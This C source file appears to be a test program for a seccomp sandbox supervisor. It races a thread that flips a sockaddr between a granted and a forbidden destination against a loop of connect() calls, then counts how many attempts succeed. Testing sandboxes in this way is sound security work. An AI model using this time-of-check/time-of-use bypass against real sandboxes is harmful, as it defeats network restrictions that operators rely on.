/* TOCTOU attack on the seccomp supervisor: thread 2 flips the sockaddr between a granted and a
 * forbidden destination while thread 1 connects in a loop.
 * usage: toctou GRANTED_IP GRANTED_PORT FORBIDDEN_IP FORBIDDEN_PORT ITERATIONS
 * prints: "connected N refused M other K" */
#include <arpa/inet.h>
#include <errno.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static struct sockaddr_in shared;
static uint64_t head_a, head_b; /* family+port+addr: the first 8 bytes, flipped as one store */
static volatile int done;

static void *flipper(void *arg) {
    (void)arg;
    volatile uint64_t *head = (volatile uint64_t *)&shared;
    while (!done) {
        *head = head_a;
        *head = head_b;
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 6) return 2;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
    struct sockaddr_in b = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[4]))};
    inet_pton(AF_INET, argv[1], &a.sin_addr);
    inet_pton(AF_INET, argv[3], &b.sin_addr);
    memcpy(&head_a, &a, 8);
    memcpy(&head_b, &b, 8);
    shared = a;
    int n = atoi(argv[5]), ok = 0, refused = 0, other = 0;
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    for (int i = 0; i < n; i++) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (s < 0) { perror("socket"); return 1; }
        if (connect(s, (struct sockaddr *)&shared, sizeof shared) == 0) ok++;
        else if (errno == ECONNREFUSED || errno == ENETUNREACH) refused++;
        else other++;
        close(s);
    }
    done = 1;
    pthread_join(t, NULL);
    printf("connected %d refused %d other %d\n", ok, refused, other);
    return 0;
}
